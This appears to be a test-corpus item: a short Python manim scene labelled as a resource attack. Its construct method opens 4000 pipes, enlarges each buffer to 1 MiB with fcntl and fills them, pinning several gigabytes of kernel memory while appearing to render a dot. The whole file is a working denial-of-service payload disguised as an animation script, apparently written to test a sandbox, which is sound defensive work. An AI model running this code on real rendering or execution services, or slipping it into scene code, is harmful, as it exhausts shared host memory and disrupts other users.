# ATTACK: resource
# SUCCESS: memory in the buffers of pipes
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os, fcntl
        for i in range(4000):
            r, w = os.pipe(); fcntl.fcntl(w, 1031, 1 << 20); os.set_blocking(w, False); os.write(w, bytes(1 << 20))
        self.add(Dot()); self.wait(0.1)
